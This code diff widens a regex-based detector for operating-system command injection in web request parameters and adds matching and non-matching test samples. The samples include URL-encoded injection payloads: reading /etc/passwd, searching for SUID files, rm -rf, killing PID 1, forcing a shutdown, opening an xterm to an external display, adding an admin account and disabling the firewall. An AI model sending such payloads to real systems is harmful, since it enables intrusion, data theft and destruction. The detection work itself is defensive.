@@ -187,8 +187,14 @@ class CommandArgv(PatternRule):
         r"\bping(?:\.exe)?[\s+]+(?:-[a-z][\s+]*\d+[\s+]+)*(?:-[a-z][\s+]*\d|\d{1,3}\.\d{1,3}\.)"
         r"|\bdir[\s+]+(?:/[a-z][\s+]+)*[a-z]:(?:[/\s+]|$)|\bnetstat[\s+]+-[a-z]{1,4}\b"
         r"|\bls[\s+]+-[a-z]{0,3}l[a-z]{0,3}\b"
-        r"|\b(?:cat|tac|nl|head|tail|more|less|type)[\s+]+(?:/(?:etc|proc|root|home|var|tmp|dev)/"
-        r"|[a-z]:/|%[a-z_]+%/)|(?P<frag>(?:^|=)\s*sleep[\s+]+\d{1,3}(?:\.\d+)?\s*)(?:\n?$|[&;|])"
+        # A file reader, with up to three options ("tail -n 1"), given a system file.
+        r"|\b(?:cat|tac|nl|head|tail|more|less|type|sort|strings|od|xxd)[\s+]+"
+        r"(?:-{1,2}[a-z][\w=]{0,15}[\s+]+(?:\d{1,6}[\s+]+)?){0,3}"
+        r"(?:/(?:etc|proc|root|home|var|tmp|dev)/|[a-z]:/|%[a-z_]+%/)"
+        r"|\bfind[\s+]+/\S*[\s+]+-(?:i?name|perm|type|user|writable|exec|newer|size)\b"
+        r"|\brm[\s+]+-[rf]{1,2}[\s+]+/|\bkill[\s+]+-(?:9|kill|hup)[\s+]+-?\d"
+        r"|\bshutdown(?:\.exe)?[\s+]+[-/][rshpf]\b|\bxterm[\s+]+-display\b"
+        r"|(?P<frag>(?:^|=)\s*sleep[\s+]+\d{1,3}(?:\.\d+)?\s*)(?:\n?$|[&;|])"
         r"|\bnet(?:\.exe)?[\s+]+(?:localgroup|user[\s+]+\S+[\s+]+\S+[\s+]*/add)\b"
         r"|\bnetsh(?:\.exe)?[\s+]+(?:firewall|advfirewall|interface|wlan|winhttp)\b"
         r"|\bnslookup[\s+]+(?:-\S+[\s+]+)*[\w-]+(?:\.[\w-]+)+"
@@ -208,7 +214,8 @@ class CommandArgv(PatternRule):
         {
             "ping", "exe", "dir", "netstat", "ls", "bin", "sbin", "system", "exec", "shell_exec",
             "passthru", "popen", "proc_open", "cat", "tac", "nl", "head", "tail", "more", "less",
-            "type", "sleep", "nslookup", "timeout",
+            "type", "sleep", "nslookup", "timeout", "sort", "strings", "od", "xxd", "find", "rm",
+            "kill", "shutdown", "xterm",
         }
     )  # fmt: skip
     gate = " +/("
@@ -227,6 +234,12 @@ class CommandArgv(PatternRule):
         AccessSample(target="/diag?x=net%20localgroup%20Administrators%20hacker%20%2FADD"),
         AccessSample(target="/diag?x=netsh%20firewall%20set%20opmode%20disable"),
         AccessSample(target="/diag?x=eval(%27whoami%27)"),
+        AccessSample(target="/diag?x=x%7Ctail%20-n%201%20/etc/passwd"),
+        AccessSample(target="/diag?x=x;find%20/%20-perm%20-4000"),
+        AccessSample(target="/diag?x=x;rm%20-rf%20/tmp/x"),
+        AccessSample(target="/diag?x=a%7Ckill%20-9%201"),
+        AccessSample(target="/diag?x=a%7Cshutdown%20-r"),
+        AccessSample(target="/diag?x=a;xterm%20-display%20198.51.100.9:0"),
     )
     must_not_match = (
         AccessSample(target="/search?q=ping+pong+table"),
@@ -240,6 +253,11 @@ class CommandArgv(PatternRule):
         AccessSample(target="/search?q=type+a+letter"),
         AccessSample(target="/search?q=net+user+guide"),
         AccessSample(target="/search?q=eval(x)+in+javascript"),
+        AccessSample(target="/search?q=sort+by+date"),
+        AccessSample(target="/search?q=find+a+dentist"),
+        AccessSample(target="/search?q=shutdown+windows+10+from+keyboard"),
+        AccessSample(target="/search?q=kill+-9+vs+kill+-15"),
+        AccessSample(target="/search?q=tail+-f+log+file"),
     )
 
 
